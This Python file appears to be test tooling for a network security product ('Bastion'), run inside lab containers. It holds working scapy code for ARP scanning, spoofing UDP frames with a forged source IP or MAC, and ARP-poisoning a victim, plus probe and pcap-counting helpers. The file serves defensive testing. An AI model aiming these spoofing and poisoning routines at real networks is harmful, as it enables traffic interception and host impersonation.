#!/usr/bin/python3
"""attack_tool.py: the attacker's and the monitor's moves in the main job (issue 8).

Run inside a container's network namespace (runtime.sh: dctk_rt_exec attacker ...)
with the system Python, which has scapy (Debian python3-scapy). Each command does
one attack and prints one line `result key=value ...` saying what the attacker got,
so the main job can tell whether it worked; whether Bastion dropped it, and why,
comes from bastiond's event stream, not from here.

  attack_tool.py arp-scan --net 10.1.2.0/24              # who answers ARP
  attack_tool.py spoof --dst 10.1.2.6 --dst-mac M --dport 7999 --src-ip 10.1.2.5
  attack_tool.py spoof --dst 10.1.2.6 --dst-mac M --dport 7999 --src-mac 02:00:..
  attack_tool.py arp-poison --victim 10.1.2.6 --victim-mac M --claim 10.1.2.5
  attack_tool.py connect --to 10.1.2.5:7100/tcp,10.1.2.2:7000/udp   # one result per target
  attack_tool.py sniff-count --pcap F --hosts A,B,C [--exclude-mac M]  # packets between HOSTS
"""
import argparse
import socket
import subprocess
import sys


def scapy():
    # Imported on use: `listen-udp` and `connect` do not need it (scapy's import
    # takes a second on this machine).
    import logging
    logging.getLogger("scapy").setLevel(logging.ERROR)
    import scapy.all as s
    s.conf.verb = 0
    return s


def own_addresses(s, iface):
    return s.get_if_addr(iface), s.get_if_hwaddr(iface)


def arp_scan(a):
    s = scapy()
    ans, _ = s.srp(s.Ether(dst="ff:ff:ff:ff:ff:ff") / s.ARP(pdst=a.net), iface=a.iface,
                   timeout=a.timeout, inter=0.002)
    answered = sorted({r.psrc for _, r in ans}, key=lambda ip: tuple(int(x) for x in ip.split(".")))
    hosts = 2 ** (32 - int(a.net.split("/")[1])) - 2
    print(f"result asked={hosts} answered={len(answered)} who={','.join(answered) or '-'}")


def spoof(a):
    s = scapy()
    ip, mac = own_addresses(s, a.iface)
    src_ip = a.src_ip or ip
    src_mac = a.src_mac or mac
    frame = (s.Ether(src=src_mac, dst=a.dst_mac) / s.IP(src=src_ip, dst=a.dst) /
             s.UDP(sport=40000, dport=a.dport) / b"dctk-spoofed")
    s.sendp(frame, iface=a.iface, count=a.count, inter=0.01)
    print(f"result sent={a.count} src_ip={src_ip} src_mac={src_mac} dst={a.dst}:{a.dport}")


def arp_poison(a):
    s = scapy()
    _, mac = own_addresses(s, a.iface)
    # A forged reply to the victim and a gratuitous ARP to everyone, both saying
    # "`claim` is at my MAC".
    reply = s.Ether(src=mac, dst=a.victim_mac) / s.ARP(op=2, psrc=a.claim, hwsrc=mac, pdst=a.victim,
                                                      hwdst=a.victim_mac)
    gratuitous = s.Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / s.ARP(
        op=2, psrc=a.claim, hwsrc=mac, pdst=a.claim, hwdst="ff:ff:ff:ff:ff:ff")
    for _ in range(a.count):
        s.sendp([reply, gratuitous], iface=a.iface, inter=0.01)
    print(f"result sent={2 * a.count} claim={a.claim} at={mac}")


def connect(a):
    for target in a.to.split(","):
        addr, proto = target.split("/")
        host, port = addr.rsplit(":", 1)
        udp = proto == "udp"
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if udp else socket.SOCK_STREAM)
        sock.settimeout(a.timeout)
        try:
            sock.connect((host, int(port)))
            if udp:
                # UDP "connects" locally; an answer (or an ICMP refusal) needs a datagram.
                sock.send(b"dctk-probe")
                sock.recv(2048)
            print(f"result connected=1 to={target}")
        except OSError as e:
            error = f"{type(e).__name__}:{e.strerror or e}".replace(" ", "_")
            print(f"result connected=0 to={target} error={error}")
        finally:
            sock.close()


def sniff_count(a):
    hosts = [h for h in a.hosts.split(",") if h]
    any_host = " or ".join(f"host {h}" for h in hosts)
    src = " or ".join(f"src host {h}" for h in hosts)
    dst = " or ".join(f"dst host {h}" for h in hosts)

    def count(expr):
        out = subprocess.run(["tcpdump", "-nn", "-r", a.pcap, expr], capture_output=True, text=True)
        return len([line for line in out.stdout.splitlines() if line.strip()])

    # The attacker's own forged frames (its MAC, a service source IP) are not
    # the service's traffic.
    own = f" and not ether src {a.exclude_mac}" if a.exclude_mac else ""
    total = count("")
    service = count(f"ip and ({src}) and ({dst}){own}")
    touching = count(f"ip and ({any_host}){own}")
    print(f"result captured={total} service_packets={service} touching_service={touching}")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--iface", default="eth0")
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("arp-scan")
    c.add_argument("--net", required=True)
    c.add_argument("--timeout", type=float, default=1.5)
    c.set_defaults(run=arp_scan)
    c = sub.add_parser("spoof")
    c.add_argument("--dst", required=True)
    c.add_argument("--dst-mac", required=True)
    c.add_argument("--dport", type=int, required=True)
    c.add_argument("--src-ip")
    c.add_argument("--src-mac")
    c.add_argument("--count", type=int, default=5)
    c.set_defaults(run=spoof)
    c = sub.add_parser("arp-poison")
    c.add_argument("--victim", required=True)
    c.add_argument("--victim-mac", required=True)
    c.add_argument("--claim", required=True)
    c.add_argument("--count", type=int, default=3)
    c.set_defaults(run=arp_poison)
    c = sub.add_parser("connect")
    c.add_argument("--to", required=True, help="IP:PORT/tcp|udp,...")
    c.add_argument("--timeout", type=float, default=0.5)
    c.set_defaults(run=connect)
    c = sub.add_parser("sniff-count")
    c.add_argument("--pcap", required=True)
    c.add_argument("--hosts", required=True)
    c.add_argument("--exclude-mac", help="frames from this MAC (the attacker's) do not count")
    c.set_defaults(run=sniff_count)
    a = p.parse_args()
    a.run(a)


if __name__ == "__main__":
    sys.exit(main())
